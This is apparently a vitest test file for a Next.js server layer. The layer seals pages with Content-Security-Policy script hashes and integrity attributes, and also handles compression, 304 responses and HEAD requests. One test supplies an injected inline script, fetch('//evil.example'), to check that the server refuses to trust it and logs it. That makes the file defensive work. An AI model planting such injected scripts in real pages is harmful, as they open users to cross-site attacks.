import { createHash } from "node:crypto";
import type { IncomingMessage, Server } from "node:http";
import { gzipSync } from "node:zlib";
import { afterEach, describe, expect, it, vi } from "vitest";
import { headScript } from "@/lib/scripts/head-script";
import { createWebServer, type WebServerParameters } from "./create-web-server";
import { askAt, listenAnywhere } from "./testing/ask";
import { unobserved } from "./testing/unobserved";
import type { WebResponse } from "./web-response";

const push = 'self.__next_f.push([1,"tide · 9 Ξ"])';
const preload = (file: string) => `<link rel="preload" as="script" href="/_next/static/chunks/${file}"/>`;
const guard = `<script>${headScript}</script>`;
const html = `<!doctype html><head>${preload("a.js?dpl=1")}${preload("late.js")}${guard}<script src="/_next/static/chunks/a.js?dpl=1" async=""></script><script src="/_next/static/chunks/unknown.js"></script><script type="application/ld+json">{"a":1}</script></head><p>${"Tide ".repeat(400)}</p><script>${push}</script>`;
const value = "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
const integrity = new Map([
  ["/_next/static/chunks/a.js", value],
  ["/_next/static/integrity-0a.json", value],
]);
const hashOf = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
const servers: Server[] = [];

type Answer = (request: IncomingMessage, response: WebResponse) => void;

/** Writes the page in pieces, as Next streams one. */
const stream: Answer = (_request, response) => {
  response.setHeader("content-type", "text/html; charset=utf-8");
  response.setHeader("etag", '"tide"');
  response.flushHeaders();
  const bytes = Buffer.from(html);
  // Within the two bytes of Ξ.
  const middle = bytes.indexOf("Ξ") + 1;
  response.write(bytes.subarray(0, middle));
  response.end(bytes.subarray(middle));
};

async function serve(answer: Answer, parameters: Partial<WebServerParameters> = {}) {
  const reached: IncomingMessage[] = [];
  const log = { error: vi.fn() };
  const { server } = createWebServer({
    handle: async (request, response) => {
      reached.push(request);
      answer(request, response);
    },
    publicFiles: [],
    readConnections: async () => ({ rpcUrls: [], walletConnect: false }),
    ...unobserved(),
    integrity,
    log,
    ...parameters,
  });
  servers.push(server);
  const port = await listenAnywhere(server);
  const ask = (headers: Record<string, string> = {}, method = "GET", path = "/") =>
    askAt(port, { path, headers, method });
  return { ask, reached, log };
}

const scriptsOf = (headers: Record<string, unknown>) =>
  /script-src ([^;]*)/.exec(String(headers["content-security-policy"]))?.[1];

afterEach(() => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    server.close();
  }
});

describe("sealPages", () => {
  it("names the inline scripts of a page that is written in pieces, and gives files their integrity, and their list to the script of the head, which is first", async () => {
    const { ask } = await serve(stream);
    const { headers, body } = await ask();
    expect(scriptsOf(headers)).toBe(`'self' ${hashOf(headScript)} ${hashOf(push)}`);
    const part = `integrity="${value}" crossorigin="" `;
    expect(body).toBe(
      html
        .replace("<link rel", `<link ${part}rel`)
        .replace(guard, "")
        .replace(
          "<head>",
          `<head><script data-integrity="/_next/static/integrity-0a.json ${value}">${headScript}</script>`,
        )
        .replace('<script src="/_next/static/chunks/a.js', `<script ${part}src="/_next/static/chunks/a.js`),
    );
    expect(headers["content-length"]).toBe(String(Buffer.byteLength(body)));
  });

  it("guards also a page that React leaves to the browser", async () => {
    const { ask } = await serve((_request, response) => {
      response
        .writeHead(404, { "content-type": "text/html" })
        .end("<html><head><title>Tide</title></head></html>");
    });
    const { headers, body } = await ask();
    expect(body).toMatch(/^<html><head><script data-integrity="[^"]+">\(\(\) => \{/);
    expect(scriptsOf(headers)).toBe(`'self' ${hashOf(headScript)}`);
  });

  it("does not name a script that this release does not write, and says so", async () => {
    const evil = "fetch('//evil.example')";
    const { ask, log } = await serve((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<p>${"a"}</p><script>${evil}</script><script>${push}</script>`);
    });
    const { headers } = await ask();
    expect(scriptsOf(headers)).toBe(`'self' ${hashOf(push)}`);
    expect(log.error).toHaveBeenCalledExactlyOnceWith(
      { script: evil },
      "a page has an inline script that is not of this release",
    );
  });

  it("compresses as the browser asks, though Next was not asked to", async () => {
    const { ask, reached } = await serve(stream);
    const plain = await ask();
    for (const coding of ["gzip", "br"]) {
      const packed = await ask({ "accept-encoding": coding });
      expect(packed.headers["content-encoding"]).toBe(coding);
      expect(packed.body).toBe(plain.body);
    }
    expect(reached.every(({ headers }) => headers["accept-encoding"] === undefined)).toBe(true);
  });

  it("answers 304 itself, with the policy of the page that the browser has", async () => {
    const { ask } = await serve(stream);
    const page = await ask();
    const known = await ask({ "if-none-match": 'W/"tide"' });
    expect([known.status, known.body]).toEqual([304, ""]);
    expect(scriptsOf(known.headers)).toBe(scriptsOf(page.headers));
    expect((await ask({ "if-none-match": '"ebb"' })).status).toBe(200);
  });

  it("answers HEAD with the policy of the page, and without the page", async () => {
    const { ask, reached } = await serve(stream);
    const page = await ask();
    const head = await ask({}, "HEAD");
    expect([head.body, scriptsOf(head.headers)]).toEqual(["", scriptsOf(page.headers)]);
    expect(head.headers["content-length"]).toBe(page.headers["content-length"]);
    expect(reached[1]?.method).toBe("HEAD");
  });

  it("seals pages of errors too", async () => {
    const { ask } = await serve((_request, response) => {
      response.writeHead(500, { "content-type": "text/html" }).end(`<script>${push}</script>`);
    });
    const { status, headers } = await ask();
    expect([status, scriptsOf(headers)]).toEqual([500, `'self' ${hashOf(push)}`]);
  });

  it("keeps a sealed page finished, and sends it with its policy", async () => {
    const { ask, reached } = await serve(
      (request, response) => {
        response.setHeader("cache-control", "s-maxage=60");
        response.setHeader("x-nextjs-cache", "HIT");
        stream(request, response);
      },
      { maxAgeMs: 60_000 },
    );
    const first = await ask({ "accept-encoding": "br" });
    const second = await ask({ "accept-encoding": "br" });
    expect(reached).toHaveLength(1);
    expect(second.body).toBe(first.body);
    expect(scriptsOf(second.headers)).toBe(`'self' ${hashOf(headScript)} ${hashOf(push)}`);
  });

  it("leaves other answers as Next writes them", async () => {
    const bytes = gzipSync("data");
    const { ask } = await serve((_request, response) => {
      response.writeHead(200, { "content-type": "text/x-component", "content-encoding": "gzip" });
      response.write(bytes.subarray(0, 5));
      response.end(bytes.subarray(5));
    });
    const asked = [{ rsc: "1" }, { "accept-encoding": "gzip" }] as const;
    for (const headers of asked) {
      const answer = await ask(headers);
      expect(answer.body).toBe("data");
      expect(scriptsOf(answer.headers)).toBe("'self'");
    }
  });

  it("breaks off a page that breaks off", async () => {
    const { ask } = await serve((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.write("<p>half");
      response.destroy();
    });
    await expect(ask()).rejects.toThrow();
  });
});
